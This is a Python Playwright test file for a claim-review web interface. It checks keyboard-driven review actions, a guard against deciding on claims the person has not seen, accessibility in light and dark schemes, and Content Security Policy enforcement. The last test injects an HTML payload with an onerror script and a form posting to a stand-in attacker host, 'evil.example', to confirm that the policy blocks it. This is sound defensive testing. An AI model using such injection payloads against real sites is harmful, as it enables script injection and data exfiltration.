"""`litsynth review --web` in a real browser: `pip install -e ".[browser]"`, Chromium (CHROMIUM), `pytest -m browser`."""

from pathlib import Path
from typing import Any

import pytest
from test_page_browser import browser  # noqa: F401 - a fixture
from test_review import made
from test_review_web import REPORT, served

pytestmark = pytest.mark.browser
SEEN_MILLISECONDS = 350


def opened(browser: Any, address: str, scheme: str = "light") -> tuple[Any, list[str]]:  # noqa: F811
    """The page, and what it said to the console or asked of another server since."""
    page = browser.new_context(color_scheme=scheme, viewport={"width": 1200, "height": 900}).new_page()
    noticed: list[str] = []
    page.on("console", lambda message: noticed.append(f"console: {message.text}"))
    page.on("pageerror", lambda error: noticed.append(f"error: {error}"))
    here = ("data:", address.partition("/open/")[0])
    page.on("request", lambda asked: noticed.extend([f"request: {asked.url}"][asked.url.startswith(here) :]))
    page.goto(address)
    return page, noticed


def press(page: Any, *keys: str) -> str:
    """Keys, once the person has had time to see the page; the claim that is then shown."""
    page.wait_for_timeout(SEEN_MILLISECONDS)
    for key in keys:
        page.keyboard.press(key)
    page.wait_for_load_state()
    page.wait_for_timeout(SEEN_MILLISECONDS)
    return str(page.inner_text("h1"))


def test_a_whole_review_by_keys_alone(browser: Any, tmp_path: Path) -> None:  # noqa: F811
    with served(REPORT, tmp_path) as visitor:
        page, noticed = opened(browser, visitor.server.address_once)
        first = press(page)
        second = press(page, "a")
        assert second != first
        press(page, "o", "ArrowDown")
        page.keyboard.press("Tab")
        page.keyboard.type("a table says otherwise")  # letters in a field are no keys
        third = press(page, "Enter")
        assert third not in (first, second)
        assert press(page, "b") == second
        assert press(page, "u") == second
        press(page, "n")
        page.keyboard.type("ask")
        assert press(page, "Enter") == second
        assert press(page, "s") == third
        press(page, "p", "Escape")
        assert page.evaluate("document.getElementById('protocol').open") is False
        assert press(page, "l") == "All claims of this pass"
        assert press(page, "q") == "The review has ended"
        assert noticed == []
    assert [one[1] for one in made(tmp_path)] == ["accept", "overrule", "undo", "note"]


def test_nobody_decides_on_a_claim_unseen(browser: Any, tmp_path: Path) -> None:  # noqa: F811
    with served(REPORT, tmp_path) as visitor:
        page, _ = opened(browser, visitor.server.address)
        page.evaluate("document.dispatchEvent(new KeyboardEvent('keydown', {key: 'a', repeat: true, bubbles: true}))")
        page.reload(wait_until="domcontentloaded")
        page.evaluate(
            "performance.now = () => 0; document.body.dispatchEvent(new KeyboardEvent('keydown', {key: 'a', bubbles: true}))"
        )
        page.wait_for_timeout(200)
    assert made(tmp_path) == []


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_no_accessibility_fault_is_found(browser: Any, tmp_path: Path, scheme: str) -> None:  # noqa: F811
    from axe_playwright_python.sync_playwright import Axe  # noqa: PLC0415 - only these tests need it

    with served(REPORT, tmp_path) as visitor:
        page, _ = opened(browser, visitor.server.address, scheme)
        press(page, "n")
        page.keyboard.type("a note")
        press(page, "Enter")
        for path in ("", "claim/c01gain", "pass"):
            page.goto(visitor.server.address + path)
            page.evaluate("document.querySelectorAll('details').forEach(one => { one.open = true; })")
            found = Axe().run(page).response["violations"]
            assert [(one["id"], one["impact"], [node["target"] for node in one["nodes"]]) for one in found] == []


def test_a_script_in_a_paper_does_not_run_even_unescaped(browser: Any, tmp_path: Path) -> None:  # noqa: F811
    with served(REPORT, tmp_path) as visitor:
        page, noticed = opened(browser, visitor.server.address)
        attack = '<img src="x" onerror="window.ran = 1"><form action="http://evil.example/"><button id="out"></form>'
        page.evaluate("text => document.querySelector('main').insertAdjacentHTML('beforeend', text)", attack)
        page.evaluate("document.getElementById('out').click()")
        page.wait_for_timeout(200)
        assert page.evaluate("window.ran") is None
        assert page.url.startswith(visitor.server.address)
        assert any("Content Security Policy" in line for line in noticed)
        assert not [line for line in noticed if line.startswith("request: http")]
